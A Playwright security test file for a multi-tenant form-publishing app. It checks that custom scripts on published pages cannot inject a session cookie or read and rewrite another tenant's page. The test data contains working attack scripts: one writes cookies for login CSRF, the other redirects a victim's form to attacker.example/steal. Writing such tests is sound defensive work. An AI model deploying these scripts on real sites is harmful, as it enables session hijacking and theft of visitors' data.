import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import path from 'node:path';
import { expect, test, type Browser, type BrowserContext, type Page } from '@playwright/test';
import type { FormConfig } from '@/domain/form-config';
import { pdfBytes, publishableConfig } from '@tests/kit/data';
import { uniqueEmail } from './support';

// An owner's script on a published page attacks other owners (docs/decisions/0011): (a) it writes
// a session cookie for the app's parent domain, to swap a signed-in owner's session for the
// attacker's (login CSRF); (b) it opens another tenant's page, reads it and rewrites its form.
// Both are tried in the default layout (localhost / 127.0.0.1) and in the production layout of
// sibling hosts (app.* / pages.* of one domain; Chromium resolves *.localhost to loopback).

const PORT = Number(process.env.E2E_PORT ?? 3100);

interface Layout {
  name: string;
  appUrl: string;
  publicUrl: string;
  /** The Domain values the attacker's script tries. */
  cookieDomains: string[];
}

const DEFAULT_LAYOUT: Layout = {
  name: 'default layout (localhost / 127.0.0.1)',
  appUrl: `http://localhost:${PORT}`,
  publicUrl: `http://127.0.0.1:${PORT}`,
  cookieDomains: ['', 'localhost', '127.0.0.1'],
};

const SIBLING_PORT = PORT + 2;
const SIBLING_LAYOUT: Layout = {
  name: 'sibling hosts (app.lodestone.localhost / pages.lodestone.localhost)',
  appUrl: `http://app.lodestone.localhost:${SIBLING_PORT}`,
  publicUrl: `http://pages.lodestone.localhost:${SIBLING_PORT}`,
  cookieDomains: ['', 'lodestone.localhost', 'app.lodestone.localhost'],
};

const PASSWORD = 'correct-horse-42';

/**
 * A signed-in owner in a browser context of their own. Everything goes through the app page's own
 * fetch, as the SPA would (Node's resolver, unlike Chromium's, does not know *.localhost).
 */
async function owner(browser: Browser, layout: Layout, name: string) {
  const context = await browser.newContext({ storageState: { cookies: [], origins: [] } });
  const page = await context.newPage();
  await page.goto(`${layout.appUrl}/sign-in`);
  const email = uniqueEmail(name.toLowerCase());
  const signUp = await page.evaluate(
    (body) =>
      fetch('/api/auth/sign-up/email', { method: 'POST', headers: { 'content-type': 'application/json' }, body }).then(
        (r) => r.status,
      ),
    JSON.stringify({ name, email, password: PASSWORD }),
  );
  expect(signUp).toBe(200);

  /** Uploads a PDF, creates the page with `config` and publishes it; returns its public address. */
  async function publish(config: Partial<FormConfig>): Promise<string> {
    const result = await page.evaluate(
      async ({ config, pdf }) => {
        const data = new FormData();
        data.append('file', new Blob([pdf], { type: 'application/pdf' }), 'guide.pdf');
        const upload = await fetch('/api/files', { method: 'POST', body: data });
        if (upload.status !== 201) return `upload: ${upload.status}`;
        const json = { 'content-type': 'application/json' };
        const body = JSON.stringify({ config: { ...config, leadMagnet: await upload.json() } });
        const created = await fetch('/api/forms', { method: 'POST', headers: json, body });
        if (created.status !== 201) return `create: ${created.status} ${await created.text()}`;
        const { id } = (await created.json()) as { id: string };
        const published = await fetch(`/api/forms/${id}/publish`, { method: 'POST' });
        if (published.status !== 200) return `publish: ${published.status} ${await published.text()}`;
        return ((await published.json()) as { publicUrl: string }).publicUrl;
      },
      { config: pageConfig(config), pdf: pdfBytes().toString('latin1') },
    );
    expect(result).toMatch(new RegExp(`^${layout.publicUrl}/f/`));
    return result;
  }
  return { context, page, email, publish };
}

const pageConfig = (config: Partial<FormConfig>): FormConfig =>
  publishableConfig(null, 'Free checklist', { description: 'Ten steps.', leadMagnetName: 'The Guide', ...config });

async function sessionCookie(context: BrowserContext, appUrl: string) {
  const cookie = (await context.cookies(appUrl)).find((c) => c.name.endsWith('session_token'));
  expect(cookie, 'a session cookie').toBeDefined();
  return cookie!;
}

/** Whom the app takes the browser for: its own /api/me, opened in the browser with the browser's cookies. */
async function whoIsSignedIn(page: Page, appUrl: string): Promise<string | undefined> {
  const res = await page.goto(`${appUrl}/api/me`);
  return res!.status() === 200 ? ((await res!.json()) as { user: { email: string } }).user.email : undefined;
}

/** Opens a published page, accepts its consent notice (the owner's script runs then) and waits for the attack's outcome. */
async function runAttack(page: Page, url: string, done: RegExp) {
  await page.goto(url);
  await page.getByRole('button', { name: 'Accept', exact: true }).click();
  await expect(page.locator('body')).toHaveAttribute('data-attack', done);
  return (await page.locator('body').getAttribute('data-attack'))!;
}

type Owner = Awaited<ReturnType<typeof owner>>;

/**
 * The attacks of one layout, by one attacking and one victim owner for all of them: sign-ups are
 * limited to 10 a minute per address, and every test here signs up from 127.0.0.1.
 */
function attacks(layout: Layout) {
  const cast = {} as { attacker: Owner; victim: Owner };
  test.beforeAll(async ({ browser }) => {
    cast.attacker = await owner(browser, layout, 'Attacker');
    cast.victim = await owner(browser, layout, 'Victim');
  });
  test.afterAll(async () => {
    await Promise.all([cast.attacker?.context.close(), cast.victim?.context.close()]);
  });

  test('a script cannot swap the signed-in owner’s session for the attacker’s', async () => {
    const { attacker, victim } = cast;
    const token = (await sessionCookie(attacker.context, layout.appUrl)).value;
    const script = `(function(){
var b=document.body;b.setAttribute('data-attack','started');
try{
${JSON.stringify(layout.cookieDomains)}.forEach(function(d){
['better-auth.session_token','__Secure-better-auth.session_token','__Host-better-auth.session_token'].forEach(function(n){
document.cookie=n+'=${token}; path=/api'+(d?'; domain='+d:'');
document.cookie=n+'=${token}; path=/'+(d?'; domain='+d:'');
});
});
b.setAttribute('data-attack','written');
}catch(e){b.setAttribute('data-attack','refused:'+e.name)}
})();`;
    const trap = await attacker.publish({ customScript: script });

    const page = victim.page;
    expect(await whoIsSignedIn(page, layout.appUrl)).toBe(victim.email);

    const outcome = await runAttack(page, trap, /^(written|refused:)/);
    expect(await whoIsSignedIn(page, layout.appUrl)).toBe(victim.email);
    expect(outcome).toBe('refused:SecurityError'); // the page has no cookies at all (opaque origin)
    // The SPA asks get-session on every load: it too still knows the victim.
    const session = await page.goto(`${layout.appUrl}/api/auth/get-session`);
    expect(((await session!.json()) as { user: { email: string } }).user.email).toBe(victim.email);
  });

  test('a script cannot read or rewrite another tenant’s page', async ({ browser }) => {
    const { attacker, victim } = cast;
    const target = await victim.publish({ title: 'Secret pricing guide' });
    const targetPath = new URL(target).pathname;

    const script = `(function(){
var b=document.body;b.setAttribute('data-attack','started');
var w;try{w=window.open(${JSON.stringify(targetPath)},'_blank')}catch(e){b.setAttribute('data-attack','refused:'+e.name);return}
if(!w){b.setAttribute('data-attack','no-window');return}
var tries=0;
(function poll(){
try{
var h=w.document.querySelector('h1');
if(h){
var text=h.textContent;
h.textContent='Rewritten by the attacker';
w.document.querySelector('form').setAttribute('action','https://attacker.example/steal');
b.setAttribute('data-attack','read:'+text);
return;
}
}catch(e){b.setAttribute('data-attack','refused:'+e.name);return}
if(++tries<400)setTimeout(poll,25);else b.setAttribute('data-attack','gave-up');
})();
})();`;
    const trap = await attacker.publish({ customScript: script });

    const visitor = await browser.newContext({ storageState: { cookies: [], origins: [] } });
    const page = await visitor.newPage();
    const outcome = await runAttack(page, trap, /^(read:|refused:|no-window|gave-up)/);
    expect(outcome).not.toMatch(/^read:/);
    expect(outcome).not.toContain('Secret pricing guide');

    // Whatever window the script opened shows the other page as its owner made it.
    for (const opened of visitor.pages().filter((p) => p.url().endsWith(targetPath))) {
      await expect(opened.getByRole('heading', { level: 1 })).toHaveText('Secret pricing guide');
      await expect(opened.locator('form')).toHaveAttribute('action', targetPath);
    }
    await visitor.close();
  });
  return cast;
}

test.describe(DEFAULT_LAYOUT.name, () => {
  const cast = attacks(DEFAULT_LAYOUT);

  test('a sandboxed page still takes a sign-up: its form posts (from an opaque origin) and the visitor moves on', async ({
    browser,
  }) => {
    const publicUrl = await cast.victim.publish({ customScript: "document.body.setAttribute('data-attack','ran');" });
    const visitor = await browser.newContext({ storageState: { cookies: [], origins: [] } });
    const page = await visitor.newPage();
    await page.goto(publicUrl);
    const openedAt = Date.now();
    await page.getByRole('button', { name: 'Accept', exact: true }).click();
    await expect(page.locator('body')).toHaveAttribute('data-attack', 'ran');
    await page.getByLabel(/Email Address/).fill(uniqueEmail('sandboxed'));
    await page.getByRole('checkbox', { name: /I agree/ }).check();
    const left = 2250 - (Date.now() - openedAt); // a person takes at least 2 s (the server drops faster posts)
    if (left > 0) await page.waitForTimeout(left);
    const [post] = await Promise.all([
      page.waitForRequest((r) => r.method() === 'POST' && r.url() === publicUrl),
      page.getByRole('button', { name: 'Get The Guide', exact: true }).click(),
    ]);
    expect((await post.allHeaders()).origin).toBe('null');
    const response = await post.response();
    expect(response!.status()).toBe(303);
    await expect(page).toHaveURL(new RegExp(`^${DEFAULT_LAYOUT.publicUrl}/thank-you`));
    await visitor.close();
  });
});

test.describe(SIBLING_LAYOUT.name, () => {
  let server: ChildProcess;

  // A second server for this layout, on the first one's PostgreSQL (several servers may share one).
  test.beforeAll(async () => {
    test.setTimeout(90_000);
    const dataDir = process.env.E2E_DATA_DIR!;
    server = spawn(process.execPath, ['--import', 'tsx', 'src/server/main.ts'], {
      cwd: path.resolve(import.meta.dirname, '../..'),
      stdio: ['ignore', 'inherit', 'inherit'],
      env: {
        ...process.env,
        NODE_ENV: 'development',
        PORT: String(SIBLING_PORT),
        HOST: '127.0.0.1',
        APP_URL: SIBLING_LAYOUT.appUrl,
        PUBLIC_URL: SIBLING_LAYOUT.publicUrl,
        DATA_DIR: path.join(dataDir, 'sibling-layout'),
        DATABASE_URL: `postgres://postgres@localhost:5432/lodestone?host=${encodeURIComponent(path.join(dataDir, 'postgres'))}`,
        LOG_LEVEL: 'warn',
      },
    });
    for (;;) {
      if (server.exitCode !== null) throw new Error(`the second server exited (${server.exitCode})`);
      const up = await fetch(`http://127.0.0.1:${SIBLING_PORT}/healthz`).then(
        (r) => r.ok,
        () => false,
      );
      if (up) break;
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
  });

  test.afterAll(async () => {
    if (server.exitCode !== null) return;
    server.kill('SIGTERM');
    await once(server, 'exit');
  });

  attacks(SIBLING_LAYOUT);
});
